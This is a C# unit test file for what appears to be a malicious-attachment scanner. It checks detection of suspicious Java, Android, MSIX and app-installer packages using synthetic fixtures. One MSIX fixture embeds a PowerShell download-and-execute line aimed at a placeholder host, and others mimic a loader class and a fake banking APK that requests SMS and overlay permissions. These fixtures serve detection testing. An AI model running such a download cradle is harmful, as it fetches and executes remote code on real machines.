using Lurewatch.Files;
using Lurewatch.Files.Programs.Packages;
using Lurewatch.Samples;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Files.Programs;

public sealed class PackageTests
{
    [Fact]
    public void A_Java_archive_gives_its_main_class_and_the_addresses_and_powers_of_its_classes()
    {
        var loader = PackageWriter.JavaClass("load/Main", ["java/lang/Runtime", "java/util/List"], "http://jar.example/x.bin", "no address");

        var analysis = Scan(PackageWriter.Jar("load.Main", loader), "Invoice.jar");

        analysis.Artifacts.Select(file => file.Facts).OfType<PackageFacts>().Single().EntryPoints.ShouldBe(["load.Main"]);
        var facts = analysis.Artifacts.Select(file => file.Facts).OfType<JavaClassFacts>().Single();
        (facts.Class, facts.SuperClass, facts.MajorVersion).ShouldBe(("load.Main", "java.lang.Object", 52));
        facts.Uses.ShouldBe(["java.lang.Runtime"]);
        Urls(analysis).ShouldBe(["http://jar.example/x.bin"]);
        analysis.Findings.Single(finding => finding.Kind.Id == "package.described").Reason.ShouldContain("load.Main");
    }

    [Fact]
    public void Lines_of_a_Java_manifest_that_go_on_are_joined_and_its_digests_are_left()
    {
        var facts = (PackageFacts)Scan("Manifest-Version: 1.0\r\nMain-Class: a.very.long.nam\r\n e.Main\r\n\r\nName: b\r\nMain-Class: other\r\n"u8.ToArray(), "MANIFEST.MF").Root.Facts!;

        facts.EntryPoints.ShouldBe(["a.very.long.name.Main"]);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void An_Android_manifest_tells_package_permissions_and_what_the_launcher_starts(bool utf8)
    {
        var manifest = PackageWriter.AndroidManifest("com.example.bank", "com.example.bank.Start", ".Listen", utf8, "android.permission.INTERNET", "android.permission.RECEIVE_SMS", "android.permission.SYSTEM_ALERT_WINDOW");

        var analysis = Scan(ZipWriter.Write([("AndroidManifest.xml", manifest), ("classes.dex", "dex\n035\0"u8.ToArray())]), "bank.apk");

        analysis.Root.Type.ShouldBe(FileType.Apk);
        var facts = analysis.Artifacts.Select(file => file.Facts).OfType<PackageFacts>().Single();
        (facts.Format, facts.Identity).ShouldBe(("apk", "com.example.bank"));
        facts.EntryPoints.ShouldBe(["com.example.bank.Start", ".Listen"]);
        facts.Permissions.Count.ShouldBe(3);
        analysis.Findings.Single(finding => finding.Kind.Id == "package.takes-over-phone").Reason.ShouldContain("RECEIVE_SMS, SYSTEM_ALERT_WINDOW");
    }

    [Fact]
    public void A_Windows_app_package_is_a_program_whose_manifest_and_files_are_looked_at()
    {
        var analysis = Scan(PackageWriter.Msix("Reader", "CN=Nobody", "VFS\\run.exe", ("config.json", "{\"applications\":[{\"id\":\"App\",\"startScript\":{\"scriptPath\":\"go.ps1\"}}]}"u8.ToArray()), ("go.ps1", "iex (New-Object Net.WebClient).DownloadString('http://msix.example/a')"u8.ToArray())), "Reader.msix");

        analysis.Root.Type.ShouldBe(FileType.Msix);
        var facts = analysis.Artifacts.Select(file => file.Facts).OfType<PackageFacts>().Single();
        (facts.Identity, facts.Publisher, facts.DisplayName).ShouldBe(("Reader", "CN=Nobody", "Reader Update"));
        facts.EntryPoints.ShouldBe(["VFS\\run.exe"]);
        facts.Permissions.ShouldBe(["runFullTrust"]);
        Urls(analysis).ShouldBe(["http://msix.example/a"]);
        ((string[])["attachment.program", "package.starts-script"]).ShouldBeSubsetOf(analysis.Findings.Select(finding => finding.Kind.Id));
    }

    [Fact]
    public void An_installer_file_names_the_package_that_it_fetches()
    {
        var analysis = Scan(PackageWriter.AppInstaller("https://app.example/a.appinstaller", "https://app.example/a.msix", "Reader"), "a.appinstaller");

        analysis.Root.Type.ShouldBe(FileType.AppInstaller);
        Urls(analysis).ShouldBe(["https://app.example/a.appinstaller", "https://app.example/a.msix"]);
        analysis.Findings.ShouldContain(finding => finding.Kind.Id == "package.installs-from-elsewhere");
    }

    [Fact]
    public void Manifests_and_classes_cut_anywhere_and_fields_that_lie_are_read_as_far_as_it_goes()
    {
        foreach (var whole in (byte[][])[PackageWriter.JavaClass("a/B", ["java/lang/Runtime"], "http://a.example/"), PackageWriter.AndroidManifest("a", "b", "c", utf8: false, "d"), PackageWriter.AndroidManifest("a", "b", "c", utf8: true, "d")])
        {
            for (var length = 9; length < whole.Length; length += 3) Scan(whole[..length], "cut");
            for (var at = 8; at < whole.Length - 4; at += 2)
            {
                foreach (var lie in (ReadOnlySpan<byte>)[0xff, 0x7f, 0x80, 0x10])
                {
                    var bytes = (byte[])whole.Clone();
                    bytes.AsSpan(at, 4).Fill(lie);
                    Scan(bytes, "lie");
                }
            }
        }
    }

    private static IEnumerable<string> Urls(Analysis analysis) => analysis.Indicators.Where(found => found is { Type: IndicatorType.Url, Role: "download-url" }).Select(found => found.Value);

    private static Analysis Scan(byte[] bytes, string name) => new MailScanner(new ScanOptions { Strict = true }).Scan(bytes, name);
}
